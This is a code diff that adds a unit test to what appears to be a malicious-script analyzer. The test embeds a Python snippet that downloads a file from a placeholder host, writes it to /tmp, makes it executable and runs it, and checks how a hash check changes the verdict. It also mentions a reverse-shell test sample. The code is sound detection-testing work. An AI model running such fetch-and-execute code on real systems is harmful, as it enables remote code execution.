@@ -67,6 +67,21 @@ TEST(Analyze, AnOrdinaryToolIsBenignAndSaysWhy) {
   EXPECT_FALSE(report.verdict.counter_evidence.empty());
 }
 
+TEST(Analyze, ADownloadThatIsCheckedIsNotYetAnAttack) {
+  const std::string fetch =
+      "import hashlib, os, subprocess, urllib.request\n"
+      "data = urllib.request.urlopen('https://h.example.invalid/tool').read()\n";
+  const std::string check = "if hashlib.sha256(data).hexdigest() != '" + std::string(64, 'a') +
+                            "':\n    raise SystemExit('mismatch')\n";
+  const std::string run =
+      "with open('/tmp/tool', 'wb') as file:\n    file.write(data)\n"
+      "os.chmod('/tmp/tool', 0o700)\nsubprocess.run(['/tmp/tool'])\n";
+  EXPECT_GE(report_of(fetch + run).verdict.score, verdict::kSuspiciousScore);
+  const Report checked = report_of(fetch + check + run);
+  EXPECT_EQ(checked.verdict.label, Label::Benign) << checked.verdict.score;
+  EXPECT_FALSE(checked.evidence.empty()) << "it is still said what the script does";
+}
+
 TEST(Analyze, EvidencePointsToItsBytes) {
   const Report report = report_of("# été\n" + kReverseShell);
   ASSERT_FALSE(report.evidence.empty());
